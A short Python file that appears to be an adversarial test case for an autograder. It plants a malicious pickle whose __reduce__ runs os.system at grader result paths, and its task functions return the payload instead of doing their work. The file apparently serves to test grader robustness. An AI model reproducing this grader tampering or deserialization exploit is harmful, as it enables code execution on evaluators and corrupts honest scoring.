# Attack: leaves a pickle that a careless judge would load.
# score: 0
# ruff: noqa

import os
import pickle


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch @@WITNESS@@/exploded",))


def attack():
    for place in ("/autograder/results/results.pkl", "@@WITNESS@@/results.pkl", "results.pkl"):
        try:
            with open(place, "wb") as stream:
                pickle.dump(Bomb(), stream)
        except OSError:
            pass
    return pickle.dumps(Bomb())


def double(x):
    return attack()


def minimize(start, learning_rate=0.1, num_iterations=10):
    found = attack()
    print(found)
    return str(found)


def make_model():
    return str(attack())
